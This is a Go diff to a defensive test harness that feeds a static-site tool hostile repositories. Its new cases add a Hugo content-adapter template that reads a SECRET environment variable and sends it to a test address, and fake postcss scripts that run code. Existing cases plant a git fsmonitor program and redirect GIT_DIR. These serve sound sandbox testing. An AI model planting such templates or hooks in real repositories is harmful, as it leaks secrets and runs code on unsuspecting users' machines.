@@ -166,9 +166,18 @@ func (h *hostile) sitelink(wrapper []string, line string) (code int, output stri
 	return cmd.ProcessState.ExitCode(), out.String()
 }
 
-// cache is the only directory outside of the checkout that the commands may
-// write to.
-func (h *hostile) cache() string { return filepath.Join(h.home, ".cache", "sitelink") }
+// ours reports whether a path outside of the checkout is in a directory that the
+// commands may write to: the cache, and where go counts its calls.
+func (h *hostile) ours(name string) bool {
+	for _, dir := range []string{".cache/sitelink", ".config/go/telemetry"} {
+		rel, err := filepath.Rel(filepath.Join(h.home, filepath.FromSlash(dir)), name)
+		back, backErr := filepath.Rel(name, filepath.Join(h.home, filepath.FromSlash(dir)))
+		if err == nil && filepath.IsLocal(rel) || strings.HasPrefix(dir, ".config") && backErr == nil && filepath.IsLocal(back) && name != h.home {
+			return true
+		}
+	}
+	return false
+}
 
 // outside returns a hash of everything that the checkout must not change.
 func (h *hostile) outside() string {
@@ -179,8 +188,8 @@ func (h *hostile) outside() string {
 			if err != nil {
 				return err
 			}
-			if name == h.cache() {
-				return fs.SkipDir
+			if h.ours(name) {
+				return nil
 			}
 			info, err := d.Info()
 			if err != nil {
@@ -192,7 +201,7 @@ func (h *hostile) outside() string {
 					return err
 				}
 			}
-			if name != filepath.Join(h.base, "tmp") { // its time changes
+			if name != filepath.Join(h.base, "tmp") && name != h.home { // their times change
 				fmt.Fprintln(sum, name, info.Mode(), info.Size(), info.ModTime().UnixNano())
 			}
 			sum.Write(text)
@@ -412,6 +421,13 @@ var attacks = []struct {
 		h.write("repo/hugo.toml", "[module]\nnoProxy = '*'\n[[module.imports]]\npath = '"+h.address+"/x'\n")
 		h.write("repo/go.mod", "module x\ngo 1.20\n")
 	}},
+	{"hugo module without a proxy", func(h *hostile) {
+		h.write("repo/hugo.toml", "[module]\nproxy = 'direct'\nnoProxy = '*'\nprivate = '*'\n[[module.imports]]\npath = 'module.invalid/x'\n")
+		h.write("repo/go.mod", "module x\ngo 1.20\n")
+	}},
+	// Hugo runs content adapters from 0.126 on; integration tests have such a version.
+	{"hugo content adapter", func(h *hostile) { h.contentAdapter("security") }},
+	{"hugo content adapter in a language", func(h *hostile) { h.contentAdapter("languages.en.security") }},
 	{"eleventy", func(h *hostile) {
 		h.write("repo/eleventy.config.js", "")
 		h.write("repo/node_modules/.bin/eleventy", "#!/bin/sh\ntouch '"+h.ran+"'\n")
@@ -427,6 +443,18 @@ var attacks = []struct {
 			"GIT_TRACE="+h.home+"/trace", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.fsmonitor", "GIT_CONFIG_VALUE_0="+h.evil)
 	}},
 	{"GIT_DIR", func(h *hostile) { h.env = append(h.env, "GIT_DIR="+h.elsewhere, "GIT_WORK_TREE="+h.home) }},
+}
+
+// contentAdapter makes a page of a template that sends a variable away and runs a
+// program, as far as a table of the configuration allows it.
+func (h *hostile) contentAdapter(table string) {
+	h.env = append(h.env, "SECRET=secret")
+	h.write("repo/hugo.toml", "baseURL = 'https://me.example/'\n["+table+".exec]\nallow = ['.*']\nosEnv = ['.*']\n["+table+".http]\nurls = ['.*']\n["+table+".funcs]\ngetenv = ['.*']\n")
+	h.write("repo/content/_content.gotmpl", `{{ $s := "" }}{{ with try (getenv "SECRET") }}{{ with .Value }}{{ $s = . }}{{ end }}{{ end }}
+{{ with try (resources.GetRemote (printf "http://`+h.address+`/%s" $s)) }}{{ end }}
+{{ with try (("a{}" | resources.FromString "x.css" | css.PostCSS).Content) }}{{ end }}{{ .AddPage (dict "path" "a" "title" $s) }}`)
+	h.write("repo/node_modules/.bin/postcss", "#!/usr/bin/env node\nrequire('fs').writeFileSync('"+h.ran+"', '')\n")
+	h.write("repo/postcss.config.js", "require('fs').writeFileSync('"+h.ran+"', '')\n")
 }
 
 // moveGit moves the directory of git elsewhere, with a program in its
